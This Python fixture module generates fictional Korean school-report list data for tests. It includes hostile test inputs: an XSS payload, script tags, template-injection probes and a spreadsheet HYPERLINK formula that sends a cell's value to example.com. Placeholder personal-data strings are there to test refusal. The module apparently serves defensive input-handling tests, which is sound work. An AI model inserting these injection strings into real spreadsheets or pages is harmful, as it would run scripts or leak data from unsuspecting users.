"""Words for statuses, sources and notes of the fictional lists, and the hostile texts in them."""

from __future__ import annotations

from random import Random

STATUSES = {"reported": 67, "under_review": 12, "confirmed": 10, "refuted": 8, "withdrawn": 3}
"""How often each status is given, in percent."""

STATUS_WORDS = {
    "reported": ("제보", "제보", "신고", ""),
    "under_review": ("확인 중", "조사 중"),
    "confirmed": ("확인됨", "확인"),
    "refuted": ("사실 아님", "사실무근"),
    "withdrawn": ("철회", "제보 철회"),
}

SOURCES = {"가상 제보방": 52, "가상 학생회 모음": 22, "가상 지역신문": 14, "가상 학부모 모임": 12}
SECOND_SOURCE = "가상 동네 게시판"
"""Source of the rows that name again, in the same file, a school that another source has named."""

PRESS_SOURCE = "가상 신문 집계"

NOTES = (
    "학교 공지 확인 필요",
    "학생회에 문의함",
    "다른 목록에도 있음",
    "동명 학교 주의",
    "가정통신문 발송됨",
    "교육청 문의 예정",
    "출처 재확인",
    "날짜 불확실",
)

MARKUP = "<img src=x onerror=alert(1)>${alert(1)}"
HOSTILE_NOTES = (
    '=HYPERLINK("http://example.com/?q="&A1,"보기")',
    "=1+1",
    "<script>alert(1)</script>",
    "{{7*7}} ${7*7}",
)

PERSONAL_SCHOOLS = ("{name} (제보자 010-0000-0000)", "{name} student@example.com")
PERSONAL_NOTES = ("연락처 010-0000-0000", "문의: parent@example.com", "000101-3000000", "전화 010 0000 0000")
"""Personal data in forms that belong to nobody: a row that holds any of it is refused."""

OUT_OF_SCOPE = ("가상햇살유치원", "가상누리수학학원", "가상솔빛영어학원")


def draw_status(random: Random) -> str:
    """Return a status, as often as `STATUSES` says."""
    return random.choices(list(STATUSES), list(STATUSES.values()))[0]


def draw_source(random: Random) -> str:
    """Return a source of the community's list."""
    return random.choices(list(SOURCES), list(SOURCES.values()))[0]


def draw_note(random: Random) -> str:
    """Return a harmless remark, mostly none."""
    return random.choice(NOTES) if random.random() < 0.1 else ""
